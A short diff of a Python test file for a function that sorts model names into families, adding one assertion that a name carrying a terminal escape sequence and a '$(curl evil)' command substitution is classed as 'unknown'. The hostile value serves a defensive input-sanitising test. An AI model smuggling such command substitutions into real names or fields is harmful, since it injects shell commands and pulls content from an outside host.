@@ -73,6 +73,7 @@ def test_other_families_or_nothing_are_said_as_such() -> None:
 def test_families_are_read_from_names_as_the_cross_validation_groups_them() -> None:
     assert [family(n) for n in ("deepseek-r1", "DeepSeek-V3", "gpt-oss-120b", "Qwen/Qwen3-235B-A22B", "llama-3.1-8b")] == \
         ["deepseek", "deepseek", "gpt-oss", "qwen", "llama"]
+    assert family("\x1b[2J$(curl evil)") == "unknown"  # a name that is no family never reaches the note
 
 
 def test_a_plan_on_a_blind_spot_says_so_in_its_header_and_document(tmp_path) -> None:
